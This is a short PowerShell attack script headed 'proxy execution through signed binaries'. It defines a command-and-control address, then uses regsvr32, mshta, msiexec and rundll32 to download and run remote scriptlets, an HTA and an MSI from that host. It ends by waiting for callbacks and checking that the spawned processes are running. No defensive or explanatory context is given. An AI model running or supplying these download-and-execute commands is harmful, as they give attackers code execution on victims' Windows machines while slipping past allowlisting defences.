# proxy execution through signed binaries
$c2 = 'http://198.51.100.61'

regsvr32.exe /s /n /u /i:$c2/files/update.sct scrobj.dll
mshta.exe http://198.51.100.61/files/menu.hta
Start-Process -FilePath msiexec.exe -ArgumentList '/q /i https://198.51.100.61/files/agent.msi'
rundll32.exe 'javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.61/files/r.sct")'

# give the callbacks time before the operator checks in
Start-Sleep -Seconds 30
Get-Process -Name mshta, regsvr32, rundll32 -ErrorAction SilentlyContinue | Select-Object -Property Name, Id, StartTime
